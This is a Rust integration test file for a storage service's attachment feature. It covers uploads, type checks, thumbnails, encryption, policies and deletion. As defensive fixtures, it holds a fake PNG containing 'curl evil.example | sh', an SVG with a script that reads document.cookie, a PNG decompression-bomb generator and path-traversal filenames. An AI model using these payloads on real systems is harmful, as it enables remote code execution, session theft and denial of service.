//! Attachments end to end on the real emulators: a plain HTTP client follows the plan, byob checks the bytes,
//! the download redirect serves them back with the signed disposition and type; policies, refusals, thumbnails
//! and their limits, deletion. The scanners are `attachments_scanning.rs`'s.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::Write;

use byob_core::Role;
use byob_testkit::{
    TestApp,
    attachments::{Org, attach, create, download, object_exists, org_on, png, query_of, send},
    buckets::{create_s3_bucket, s3_admin, unique_name},
    integrations::{Access, integration_body},
    server_env,
    uploads::create_integration,
};
use serde_json::json;

/// A valid PNG of `side` × `side` one-bit pixels, all black: a few kilobytes that decode to `side²` bytes.
fn png_bomb(side: u32) -> Vec<u8> {
    fn chunk(out: &mut Vec<u8>, kind: &[u8], data: &[u8]) {
        out.extend_from_slice(&u32::try_from(data.len()).unwrap().to_be_bytes());
        let mut crc = flate2::Crc::new();
        crc.update(kind);
        crc.update(data);
        out.extend_from_slice(kind);
        out.extend_from_slice(data);
        out.extend_from_slice(&crc.sum().to_be_bytes());
    }
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut header = Vec::new();
    header.extend_from_slice(&side.to_be_bytes());
    header.extend_from_slice(&side.to_be_bytes());
    header.extend_from_slice(&[1, 0, 0, 0, 0]);
    chunk(&mut out, b"IHDR", &header);
    let row = vec![0u8; 1 + side.div_ceil(8) as usize];
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    for _ in 0..side {
        z.write_all(&row).unwrap();
    }
    chunk(&mut out, b"IDAT", &z.finish().unwrap());
    chunk(&mut out, b"IEND", &[]);
    out
}

/// Upload, check, download: the bytes come back, with the attachment disposition and the checked type in the
/// storage's answer (or, where the emulator ignores them, in the signed URL).
async fn round_trip(access: Access, honours_response_headers: bool) {
    let app = TestApp::sqlite().await;
    let org = org_on(&app, access).await;
    let bytes = png(640, 480);
    let done = attach(&app, &org, "scan résumé.png", "image/png", &bytes).await;
    assert_eq!(done.status, 200, "{:?}", done.body);
    assert_eq!(done.body["state"], "available");
    assert_eq!(done.body["content_type"], "image/png");
    let id = done.body["id"].as_str().unwrap().to_string();
    assert_eq!(done.body["key"], format!("attachments/{id}"), "byob's key: opaque, the id only");
    assert!(done.body["thumbnail_key"].is_string(), "{:?}", done.body);

    let file = download(&app, &org, &id, "download").await;
    assert_eq!(file.status(), 200);
    if access == Access::Moto {
        assert_eq!(query_of(&file)["X-Amz-Expires"], "60", "a short-lived URL (attachments.download_ttl_secs)");
    }
    let disposition = "attachment; filename=\"scan r_sum_.png\"; filename*=UTF-8''scan%20r%C3%A9sum%C3%A9.png";
    if honours_response_headers {
        assert_eq!(file.headers()["content-disposition"], disposition);
        assert_eq!(file.headers()["content-type"], "image/png");
    } else {
        let query = query_of(&file);
        let signed = query.get("response-content-disposition").or_else(|| query.get("rscd"));
        assert_eq!(signed.map(String::as_str), Some(disposition));
    }
    assert_eq!(file.bytes().await.unwrap().as_ref(), bytes.as_slice(), "the same bytes");

    // Every upload and download is audited with the member, the slot and the object's key.
    for action in ["attachment.create", "attachment.complete", "attachment.download"] {
        let audit =
            app.call("GET", &format!("/v1/orgs/{}/audit?action={action}", org.id), Some(&org.admin), None).await;
        let entry = &audit.body["items"][0];
        assert_eq!(entry["target"], id.as_str(), "{action}: {:?}", audit.body);
        assert!(entry["actor"].to_string().contains("mem_"), "{action}: {entry}");
        let detail = &entry["detail"];
        assert_eq!(
            (&detail["collection"], &detail["record"], &detail["field"]),
            (&json!("orders"), &json!("42"), &json!("invoice"))
        );
        assert_eq!(detail["key"], format!("attachments/{id}"));
        assert!(!entry.to_string().contains("X-Amz-Signature") && !entry.to_string().contains("sig="), "no URL");
    }

    let thumbnail = download(&app, &org, &id, "thumbnail").await;
    assert_eq!(thumbnail.status(), 200);
    let thumbnail = image::load_from_memory(&thumbnail.bytes().await.unwrap()).unwrap();
    assert_eq!((thumbnail.width(), thumbnail.height()), (256, 192));

    let listed = app
        .call(
            "GET",
            &format!("/v1/orgs/{}/attachments?collection=orders&record=42&field=invoice", org.id),
            Some(&org.member),
            None,
        )
        .await;
    assert_eq!(listed.body["items"].as_array().unwrap().len(), 1, "{:?}", listed.body);

    // Deleting the record's attachments (the platform deleted the row) removes object and thumbnail.
    let file_url =
        app.call("GET", &format!("/v1/orgs/{}/attachments/{id}/download", org.id), Some(&org.member), None).await;
    let thumb_url =
        app.call("GET", &format!("/v1/orgs/{}/attachments/{id}/thumbnail", org.id), Some(&org.member), None).await;
    let gone = app
        .call(
            "DELETE",
            &format!("/v1/orgs/{}/attachments?collection=orders&record=42", org.id),
            Some(&org.member),
            None,
        )
        .await;
    assert_eq!(gone.body["deleted"], 1, "{:?}", gone.body);
    for url in [file_url, thumb_url] {
        let status = reqwest::get(url.headers["location"].to_str().unwrap()).await.unwrap().status();
        // S3 answers 403 for a missing key to whoever may not list the bucket (a presigned GET may not).
        assert!(matches!(status.as_u16(), 403 | 404), "the object is gone: {status}");
    }
    let after = app.call("GET", &format!("/v1/orgs/{}/attachments/{id}", org.id), Some(&org.member), None).await;
    assert_eq!(after.body["code"], "attachment-not-found");
}

/// Files over 16 MiB go in parts (a GCS resumable session in order, with `Content-Range`); the type check reads
/// the assembled object's first bytes.
async fn in_parts(access: Access) {
    let app = TestApp::sqlite().await;
    let org = org_on(&app, access).await;
    let mut bytes = b"%PDF-1.7\n".to_vec();
    bytes.resize(20 * 1024 * 1024, b'x');
    let plan = create(&app, &org, "big.pdf", "application/pdf", bytes.len()).await;
    assert_eq!(plan.body["method"], "multipart", "{:?}", plan.body);
    let parts = send(&plan.body, &bytes).await;
    let id = plan.body["attachment"]["id"].as_str().unwrap();
    let done = app
        .call("POST", &format!("/v1/orgs/{}/attachments/{id}/complete", org.id), Some(&org.member), Some(parts))
        .await;
    assert_eq!(
        (done.body["state"].as_str(), done.body["content_type"].as_str()),
        (Some("available"), Some("application/pdf")),
        "{:?}",
        done.body
    );
    let file = download(&app, &org, id, "download").await;
    assert_eq!(file.bytes().await.unwrap().len(), bytes.len());
}

#[tokio::test]
async fn in_parts_on_moto() {
    in_parts(Access::Moto).await;
}

#[tokio::test]
async fn in_parts_on_azurite() {
    in_parts(Access::Azurite).await;
}

#[tokio::test]
async fn in_parts_on_fake_gcs() {
    in_parts(Access::FakeGcs).await;
}

#[tokio::test]
async fn round_trip_on_moto() {
    round_trip(Access::Moto, true).await;
}

#[tokio::test]
async fn round_trip_on_azurite() {
    round_trip(Access::Azurite, true).await;
}

#[tokio::test]
async fn round_trip_on_fake_gcs() {
    round_trip(Access::FakeGcs, false).await;
}

/// s3s-fs checks every signature: the signed type is what the client must send.
#[tokio::test]
async fn a_put_that_breaks_its_signed_type_is_refused_by_the_store() {
    let app = TestApp::sqlite().await;
    let org = org_on(&app, Access::S3sFs).await;
    let bytes = png(64, 64);
    let plan = create(&app, &org, "a.png", "image/png", bytes.len()).await;
    let part = &plan.body["parts"][0];
    assert_eq!(part["headers"]["content-type"], "image/png");
    let url = part["url"].as_str().unwrap();
    let http = reqwest::Client::new();
    let other_type = http.put(url).header("content-type", "text/html").body(bytes.clone()).send().await.unwrap();
    assert_eq!(other_type.status(), 403);
    let parts = send(&plan.body, &bytes).await;
    let id = plan.body["attachment"]["id"].as_str().unwrap();
    let done = app
        .call("POST", &format!("/v1/orgs/{}/attachments/{id}/complete", org.id), Some(&org.member), Some(parts))
        .await;
    assert_eq!(done.body["state"], "available", "{:?}", done.body);
}

#[tokio::test]
async fn every_object_of_an_attachment_is_written_with_the_integrations_kms_key() {
    let app = TestApp::sqlite().await;
    let org_id = app.create_org("acme").await;
    let (_, member) = app.member_with_token(&org_id, Role::Member).await;
    let (_, admin) = app.member_with_token(&org_id, Role::Admin).await;
    let bucket = unique_name("attkms");
    create_s3_bucket(&bucket).await;
    let endpoint = server_env("BYOB_TEST_S3_ENDPOINT");
    let key = byob_testkit::buckets::create_kms_key(&endpoint).await;
    let mut body = integration_body(Access::Moto, "customer", &bucket, "byob", &["attachments"]);
    body["kms_key"] = json!(key);
    create_integration(&app, &org_id, body).await;
    let org = Org { id: org_id, member, admin, bucket };
    let plan = create(&app, &org, "a.pdf", "application/pdf", 9).await;
    assert_eq!(plan.body["parts"][0]["headers"]["x-amz-server-side-encryption-aws-kms-key-id"], key.as_str());
    let admin_s3 = s3_admin(&endpoint, "us-east-1");
    let encrypted_with = |object: String| {
        let request = admin_s3.head_object().bucket(&org.bucket).key(object);
        async move {
            let head = request.send().await.unwrap();
            (head.server_side_encryption().map(|s| s.as_str().to_string()), head.ssekms_key_id().map(String::from))
        }
    };
    let expected = (Some("aws:kms".to_string()), Some(key.clone()));
    // One PUT (the key signed into its URL), a file in parts (the key on the upload byob starts), and the
    // thumbnail byob writes itself.
    let mut big = b"%PDF-1.7\n".to_vec();
    big.resize(17 * 1024 * 1024, b'x');
    for (name, content_type, bytes) in [
        ("a.pdf", "application/pdf", b"%PDF-1.7\n".to_vec()),
        ("big.pdf", "application/pdf", big),
        ("chart.png", "image/png", png(64, 64)),
    ] {
        let done = attach(&app, &org, name, content_type, &bytes).await;
        assert_eq!(done.body["state"], "available", "{name}: {:?}", done.body);
        let id = done.body["id"].as_str().unwrap();
        assert_eq!(encrypted_with(format!("byob/attachments/{id}")).await, expected, "{name}");
        if let Some(thumbnail) = done.body["thumbnail_key"].as_str() {
            assert_eq!(encrypted_with(format!("byob/{thumbnail}")).await, expected, "{name}'s thumbnail");
        }
    }
}

#[tokio::test]
async fn a_png_that_is_an_elf_or_a_script_is_rejected_and_deleted() {
    let app = TestApp::sqlite().await;
    let org = org_on(&app, Access::Moto).await;
    let elf = std::fs::read("/bin/true").unwrap();
    for bytes in [elf, b"#!/bin/sh\ncurl evil.example | sh\n".to_vec()] {
        let plan = create(&app, &org, "photo.png", "image/png", bytes.len()).await;
        let id = plan.body["attachment"]["id"].as_str().unwrap().to_string();
        let parts = send(&plan.body, &bytes).await;
        let done = app
            .call("POST", &format!("/v1/orgs/{}/attachments/{id}/complete", org.id), Some(&org.member), Some(parts))
            .await;
        assert_eq!(
            (done.status, done.body["code"].as_str()),
            (422, Some("attachment-type-mismatch")),
            "{:?}",
            done.body
        );
        let after = app.call("GET", &format!("/v1/orgs/{}/attachments/{id}", org.id), Some(&org.member), None).await;
        assert_eq!(after.body["state"], "rejected");
        assert_eq!(after.body["rejection"]["code"], "attachment-type-mismatch");
        assert!(!object_exists(&org.bucket, &format!("byob/attachments/{id}")).await, "the object is deleted");
        let no =
            app.call("GET", &format!("/v1/orgs/{}/attachments/{id}/download", org.id), Some(&org.member), None).await;
        assert_eq!(no.body["code"], "attachment-not-available");
    }
    let events = app.call("GET", &format!("/v1/orgs/{}/events", org.id), Some(&org.admin), None).await;
    let rejected =
        events.body.as_array().map_or(0, |e| e.iter().filter(|e| e["type"] == "attachment-rejected").count());
    assert_eq!(rejected, 2, "{:?}", events.body);
}

#[tokio::test]
async fn svg_is_accepted_only_when_allowed_and_never_served_inline() {
    let app = TestApp::sqlite().await;
    let org = org_on(&app, Access::Moto).await;
    let svg = br#"<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>"#;
    let refused = create(&app, &org, "logo.svg", "image/svg+xml", svg.len()).await;
    assert_eq!((refused.status, refused.body["code"].as_str()), (415, Some("attachment-type-not-allowed")));
    let policy = json!({
        "max_bytes": 1_000_000, "max_files_per_record": 5,
        "allowed_types": ["image/svg+xml", "image/png", "application/pdf"], "inline_preview": true,
    });
    let path = format!("/v1/orgs/{}/attachment-policies/orders/invoice", org.id);
    let by_member = app.call("PUT", &path, Some(&org.member), Some(policy.clone())).await;
    assert_eq!(by_member.status, 403, "only admins set policies");
    let set = app.call("PUT", &path, Some(&org.admin), Some(policy)).await;
    assert_eq!(set.status, 200, "{:?}", set.body);
    assert_eq!(app.call("GET", &path, Some(&org.member), None).await.body["default"], false);

    let done = attach(&app, &org, "logo.svg", "image/svg+xml", svg).await;
    assert_eq!(done.body["state"], "available", "{:?}", done.body);
    let file = download(&app, &org, done.body["id"].as_str().unwrap(), "download").await;
    assert!(file.headers()["content-disposition"].to_str().unwrap().starts_with("attachment;"), "never inline");
    assert_eq!(file.headers()["content-type"], "image/svg+xml");

    let done = attach(&app, &org, "chart.png", "image/png", &png(32, 32)).await;
    let file = download(&app, &org, done.body["id"].as_str().unwrap(), "download").await;
    assert!(file.headers()["content-disposition"].to_str().unwrap().starts_with("inline;"), "a PNG previews");
    // Previews withdrawn: the next click downloads.
    app.call("DELETE", &path, Some(&org.admin), None).await;
    let file = download(&app, &org, done.body["id"].as_str().unwrap(), "download").await;
    assert!(file.headers()["content-disposition"].to_str().unwrap().starts_with("attachment;"));
}

#[tokio::test]
async fn sizes_over_the_policy_are_refused_before_a_url_and_a_lie_at_completion() {
    let app = TestApp::sqlite().await;
    let org = org_on(&app, Access::Moto).await;
    let policy = json!({ "max_bytes": 1000, "max_files_per_record": 2, "allowed_types": ["text/plain"], "inline_preview": false });
    let set = app
        .call("PUT", &format!("/v1/orgs/{}/attachment-policies/orders/invoice", org.id), Some(&org.admin), Some(policy))
        .await;
    assert_eq!(set.status, 200, "{:?}", set.body);
    let over = create(&app, &org, "big.txt", "text/plain", 1001).await;
    assert_eq!((over.status, over.body["code"].as_str()), (413, Some("attachment-too-large")));
    assert!(over.body.get("parts").is_none());

    // Declared small, sent large (moto checks no signature, so the bytes land): refused at completion.
    let plan = create(&app, &org, "small.txt", "text/plain", 10).await;
    let id = plan.body["attachment"]["id"].as_str().unwrap().to_string();
    let url = plan.body["parts"][0]["url"].as_str().unwrap();
    reqwest::Client::new().put(url).header("content-type", "text/plain").body(vec![b'a'; 5000]).send().await.unwrap();
    let done = app
        .call("POST", &format!("/v1/orgs/{}/attachments/{id}/complete", org.id), Some(&org.member), Some(json!({})))
        .await;
    assert_eq!(done.body["code"], "upload-size-mismatch", "{:?}", done.body);
    let after = app.call("GET", &format!("/v1/orgs/{}/attachments/{id}", org.id), Some(&org.member), None).await;
    assert_eq!(after.body["state"], "rejected");
    assert!(!object_exists(&org.bucket, &format!("byob/attachments/{id}")).await);

    // Two files per record: the rejected one does not count, a third does not fit.
    assert_eq!(attach(&app, &org, "a.txt", "text/plain", b"one").await.body["state"], "available");
    assert_eq!(attach(&app, &org, "b.txt", "text/plain", b"two").await.body["state"], "available");
    let full = create(&app, &org, "c.txt", "text/plain", 5).await;
    assert_eq!((full.status, full.body["code"].as_str()), (409, Some("attachment-slot-full")));
}

#[tokio::test]
async fn a_decompression_bomb_gets_no_thumbnail_and_the_file_stays_available() {
    let app = TestApp::sqlite().await;
    let org = org_on(&app, Access::Moto).await;
    let bomb = png_bomb(8000);
    assert!(bomb.len() < 100_000, "{} bytes", bomb.len());
    let done = attach(&app, &org, "huge.png", "image/png", &bomb).await;
    assert_eq!(done.body["state"], "available", "{:?}", done.body);
    assert!(done.body["thumbnail_key"].is_null());
    let id = done.body["id"].as_str().unwrap();
    let none =
        app.call("GET", &format!("/v1/orgs/{}/attachments/{id}/thumbnail", org.id), Some(&org.member), None).await;
    assert_eq!(none.body["code"], "attachment-thumbnail-not-found");
}

/// Storage without URLs (the in-memory provider, like a `local` integration): the plan's parts go to byob's relay
/// endpoint, and downloads stream through byob with the same headers.
#[tokio::test]
async fn storage_without_urls_relays_uploads_and_streams_downloads() {
    let app = TestApp::sqlite().await;
    let org = org_on(&app, Access::Memory).await;
    let bytes = png(300, 100);
    let plan = create(&app, &org, "chart.png", "image/png", bytes.len()).await;
    assert_eq!(plan.body["method"], "relay", "{:?}", plan.body);
    let mut parts = Vec::new();
    for part in plan.body["parts"].as_array().unwrap() {
        let url = url::Url::parse(part["url"].as_str().unwrap()).unwrap();
        let (offset, length) = (part["offset"].as_u64().unwrap() as usize, part["length"].as_u64().unwrap() as usize);
        let request = axum::http::Request::builder()
            .method("PUT")
            .uri(format!("{}?{}", url.path(), url.query().unwrap()))
            .body(axum::body::Body::from(bytes[offset..offset + length].to_vec()))
            .unwrap();
        let sent = app.send(request).await;
        assert_eq!(sent.status, 200, "{:?}", sent.body);
        parts.push(json!({ "part_number": part["part_number"], "etag": sent.headers["etag"].to_str().unwrap() }));
    }
    let id = plan.body["attachment"]["id"].as_str().unwrap();
    let done = app
        .call(
            "POST",
            &format!("/v1/orgs/{}/attachments/{id}/complete", org.id),
            Some(&org.member),
            Some(json!({ "parts": parts })),
        )
        .await;
    assert_eq!(done.body["state"], "available", "{:?}", done.body);
    let file =
        app.call("GET", &format!("/v1/orgs/{}/attachments/{id}/download", org.id), Some(&org.member), None).await;
    assert_eq!(file.status, 200);
    assert_eq!(file.headers["content-type"], "image/png");
    assert_eq!(file.headers["x-content-type-options"], "nosniff");
    assert_eq!(file.headers["content-disposition"], "attachment; filename=\"chart.png\"; filename*=UTF-8''chart.png");
    let thumb =
        app.call("GET", &format!("/v1/orgs/{}/attachments/{id}/thumbnail", org.id), Some(&org.member), None).await;
    assert_eq!((thumb.status, thumb.content_type.as_str()), (200, "image/png"));
}

#[tokio::test]
async fn an_attachment_never_completed_is_rejected_by_the_janitor_and_frees_its_place() {
    let app = TestApp::sqlite().await;
    let org = org_on(&app, Access::Moto).await;
    let plan = create(&app, &org, "a.pdf", "application/pdf", 10).await;
    let id = plan.body["attachment"]["id"].as_str().unwrap();
    app.clock.advance(chrono::Duration::hours(25));
    app.services.janitor.sweep().await.unwrap();
    let after = app.call("GET", &format!("/v1/orgs/{}/attachments/{id}", org.id), Some(&org.member), None).await;
    assert_eq!(after.body["state"], "rejected", "{:?}", after.body);
    assert_eq!(after.body["rejection"]["code"], "attachment-abandoned");
    let uploads = app.call("GET", &format!("/v1/orgs/{}/uploads", org.id), Some(&org.member), None).await;
    assert_eq!(uploads.body["items"], json!([]), "an attachment's upload session is not an upload of the API");
}

#[tokio::test]
async fn the_default_storage_refuses_attachments() {
    let app = TestApp::sqlite().await;
    let org = app.create_org("acme").await;
    let (_, member) = app.member_with_token(&org, Role::Member).await;
    let body = json!({
        "collection": "orders", "record": "42", "field": "invoice", "filename": "a.pdf", "size": 10,
        "content_type": "application/pdf",
    });
    let reply = app.call("POST", &format!("/v1/orgs/{org}/attachments"), Some(&member), Some(body)).await;
    assert_eq!(
        (reply.status, reply.body["code"].as_str()),
        (409, Some("feature-needs-integration")),
        "{:?}",
        reply.body
    );
}

#[tokio::test]
async fn bad_slots_names_and_policies_get_their_rule() {
    let app = TestApp::sqlite().await;
    let org = org_on(&app, Access::Moto).await;
    let base = json!({
        "collection": "orders", "record": "42", "field": "invoice", "filename": "a.pdf", "size": 10,
        "content_type": "application/pdf",
    });
    for (field, value, rule) in [
        ("collection", json!("orders/../x"), "slot-name"),
        ("field", json!(""), "slot-name"),
        ("record", json!(" 42"), "slot-record"),
        ("filename", json!("../a.pdf"), "attachment-filename"),
        ("content_type", json!("PDF"), "attachment-media-type"),
    ] {
        let mut body = base.clone();
        body[field] = value;
        let reply = app.call("POST", &format!("/v1/orgs/{}/attachments", org.id), Some(&org.member), Some(body)).await;
        assert_eq!((reply.status, reply.body["rule"].as_str()), (422, Some(rule)), "{field}: {:?}", reply.body);
    }
    let path = format!("/v1/orgs/{}/attachment-policies/orders/invoice", org.id);
    for (policy, rule) in [
        (
            json!({ "max_bytes": 0, "max_files_per_record": 1, "allowed_types": ["text/plain"], "inline_preview": false }),
            "attachment-policy-size",
        ),
        (
            json!({ "max_bytes": 10, "max_files_per_record": 0, "allowed_types": ["text/plain"], "inline_preview": false }),
            "attachment-policy-files",
        ),
        (
            json!({ "max_bytes": 10, "max_files_per_record": 1, "allowed_types": [], "inline_preview": false }),
            "attachment-policy-types",
        ),
    ] {
        let reply = app.call("PUT", &path, Some(&org.admin), Some(policy)).await;
        assert_eq!((reply.status, reply.body["rule"].as_str()), (422, Some(rule)), "{:?}", reply.body);
    }
    let unknown = app.call("PUT", &path, Some(&org.admin), Some(json!({ "max_byte": 1 }))).await;
    assert_eq!(unknown.status, 422, "{:?}", unknown.body);
    let whole = app
        .call("DELETE", &format!("/v1/orgs/{}/attachments?collection=orders", org.id), Some(&org.member), None)
        .await;
    assert_eq!(whole.status, 403, "a whole collection is an admin's to delete");
    assert_eq!(
        app.call("DELETE", &format!("/v1/orgs/{}/attachments?collection=orders", org.id), Some(&org.admin), None)
            .await
            .status,
        200
    );
}
